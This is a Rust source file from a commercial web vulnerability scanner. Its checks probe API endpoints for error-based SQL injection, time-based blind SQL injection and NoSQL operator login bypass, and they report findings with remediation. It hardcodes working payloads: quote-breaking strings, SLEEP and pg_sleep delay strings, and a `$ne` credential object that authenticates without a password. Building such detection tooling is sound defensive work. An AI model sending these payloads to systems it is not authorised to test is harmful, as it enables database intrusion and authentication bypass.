// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Injection Checks
 * Error-based SQLi, time-based blind SQLi, NoSQL operator injection
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use anyhow::Result;
use serde_json::json;
use tracing::{debug, info};

use super::CheckContext;
use crate::heuristics::error_patterns;
use crate::heuristics::timing::TimingSample;
use crate::types::{Finding, Severity};

/// Quote-breaking payloads whose only job is to make the database talk.
const ERROR_PAYLOADS: &[&str] = &[
    "'",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "1' AND '1'='2",
    "'; --",
];

/// Sleep payloads per engine family. Each should stall ~5 seconds when
/// the parameter reaches the query unparameterized.
const TIMING_PAYLOADS: &[&str] = &[
    "1' AND SLEEP(5)-- -",
    "1'; SELECT pg_sleep(5)-- -",
    "1' AND 1=(SELECT 1 FROM (SELECT SLEEP(5))x)-- -",
];

/// Inject quote-breakers through every entity search parameter and match
/// the responses against the SQL error signature set.
pub async fn sql_error_based(cx: &CheckContext) -> Result<Vec<Finding>> {
    info!("[SQLi] Error-based probing across entity endpoints");
    let mut findings = Vec::new();

    for endpoint in &cx.config.endpoints {
        if !cx.config.scope.is_in_scope(&endpoint.collection_path) {
            continue;
        }
        let base = endpoint.collection_url(&cx.config.api_url);

        for payload in ERROR_PAYLOADS {
            let url = format!("{}?{}={}", base, endpoint.search_param, urlencode(payload));
            let response = match cx.client.get(&url).await {
                Ok(response) => response,
                Err(e) => {
                    debug!("[SQLi] Probe failed: {}", e);
                    continue;
                }
            };

            if let Some(db) = error_patterns::match_sql_error(&response.body) {
                info!("[SQLi] {} error text from '{}'", db, endpoint.entity);
                findings.push(
                    Finding::new(
                        format!("SQL Injection in '{}' Search", endpoint.entity),
                        format!(
                            "A quote-breaking value in the '{}' parameter produced a raw \
                             {} error; the parameter is concatenated into the query.",
                            endpoint.search_param, db
                        ),
                        Severity::Critical,
                        "SQL Injection",
                        &base,
                        "GET",
                        9.8,
                        "CWE-89",
                        "A03:2021 - Injection",
                    )
                    .with_parameter(&endpoint.search_param)
                    .with_payload(*payload)
                    .with_evidence(response.body.chars().take(300).collect::<String>())
                    .with_remediation(
                        "1. Replace string-built queries with parameterized statements \
                         or the ORM's bound-parameter API\n\
                         2. Audit every query touching this table for the same pattern\n\
                         3. Run the application's database account with least privilege\n\
                         4. Map database errors to generic client messages so future \
                         injection attempts stop getting free feedback",
                    ),
                );
                break; // engine identified; further payloads add nothing
            }
        }
    }

    Ok(findings)
}

/// Time-based blind probing: pair each sleep payload with baselines taken
/// adjacent in time, and require a second confirming sample before
/// reporting - a single slow response is jitter, not proof.
pub async fn sql_time_based(cx: &CheckContext) -> Result<Vec<Finding>> {
    let mut findings = Vec::new();

    for endpoint in &cx.config.endpoints {
        if !cx.config.scope.is_in_scope(&endpoint.collection_path) {
            continue;
        }
        let base = endpoint.collection_url(&cx.config.api_url);
        let benign = format!("{}?{}=audit", base, endpoint.search_param);

        for payload in TIMING_PAYLOADS {
            let url = format!("{}?{}={}", base, endpoint.search_param, urlencode(payload));

            // Two baselines bracketing conditions, then the delayed probe.
            let baseline_a = match cx.client.get(&benign).await {
                Ok(response) => response.duration_ms,
                Err(_) => break,
            };
            let baseline_b = match cx.client.get(&benign).await {
                Ok(response) => response.duration_ms,
                Err(_) => break,
            };
            let probed = match cx.client.get(&url).await {
                Ok(response) => response.duration_ms,
                Err(_) => continue, // often the payload times the request out
            };

            let sample = TimingSample::with_dual_baseline(baseline_a, baseline_b, probed);
            if !sample.indicates_injected_delay() {
                continue;
            }

            // Confirm once before claiming a blind injection.
            let confirm = match cx.client.get(&url).await {
                Ok(response) => response.duration_ms,
                Err(_) => continue,
            };
            let confirmed = TimingSample::new(sample.baseline_ms, confirm);
            if confirmed.indicates_injected_delay() {
                info!(
                    "[SQLi] Time oracle on '{}': baseline {}ms, probe {}ms / {}ms",
                    endpoint.entity, sample.baseline_ms, probed, confirm
                );
                findings.push(
                    Finding::new(
                        format!("Blind SQL Injection in '{}' Search (Time-Based)", endpoint.entity),
                        format!(
                            "A sleep payload in the '{}' parameter delayed the response \
                             twice in a row by roughly the injected interval.",
                            endpoint.search_param
                        ),
                        Severity::Critical,
                        "SQL Injection",
                        &base,
                        "GET",
                        9.4,
                        "CWE-89",
                        "A03:2021 - Injection",
                    )
                    .with_parameter(&endpoint.search_param)
                    .with_payload(*payload)
                    .with_evidence(format!(
                        "baseline {}ms; delayed probes {}ms and {}ms",
                        sample.baseline_ms, probed, confirm
                    ))
                    .with_remediation(
                        "Use parameterized queries exclusively. Time-based blind \
                         injection implies full read access given enough requests.",
                    ),
                );
                break;
            }
        }
    }

    Ok(findings)
}

/// MongoDB-style operator objects where scalars belong. A login that
/// accepts `$ne` comparisons authenticates without knowing any password.
pub async fn nosql_operator(cx: &CheckContext) -> Result<Vec<Finding>> {
    let signin = cx.config.signin_url();
    let body = json!({
        "email": {"$ne": null},
        "password": {"$ne": null},
    });

    let response = match cx.client.post_json(&signin, &body).await {
        Ok(response) => response,
        Err(e) => {
            debug!("[NoSQLi] Probe failed: {}", e);
            return Ok(Vec::new());
        }
    };

    let mut findings = Vec::new();
    let authenticated = response.is_success()
        && (crate::auth::extract_token(&response.body).is_some()
            || response.body.contains("\"user\""));
    if authenticated {
        info!("[NoSQLi] Operator object authenticated without credentials");
        findings.push(
            Finding::new(
                "NoSQL Operator Injection Bypasses Login",
                "The signin endpoint accepted `$ne` operator objects in place of \
                 credentials and returned an authenticated session.",
                Severity::Critical,
                "NoSQL Injection",
                &signin,
                "POST",
                9.8,
                "CWE-943",
                "A03:2021 - Injection",
            )
            .with_parameter("email")
            .with_payload(r#"{"email":{"$ne":null},"password":{"$ne":null}}"#)
            .with_evidence(response.body.chars().take(300).collect::<String>())
            .with_remediation(
                "Validate credential fields as strings before they reach the query \
                 layer and reject objects where scalars are expected.",
            ),
        );
    }

    Ok(findings)
}

fn urlencode(raw: &str) -> String {
    raw.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            other => format!("%{:02X}", other),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::testutil::offline_context;

    #[test]
    fn test_urlencode_sleep_payload() {
        let encoded = urlencode("1' AND SLEEP(5)-- -");
        assert!(!encoded.contains(' '));
        assert!(!encoded.contains('\''));
        assert!(encoded.contains("%27"));
        assert!(encoded.contains("SLEEP"));
    }

    #[tokio::test]
    async fn test_all_checks_quiet_on_dead_target() {
        let cx = offline_context();
        assert!(sql_error_based(&cx).await.unwrap().is_empty());
        assert!(sql_time_based(&cx).await.unwrap().is_empty());
        assert!(nosql_operator(&cx).await.unwrap().is_empty());
    }
}
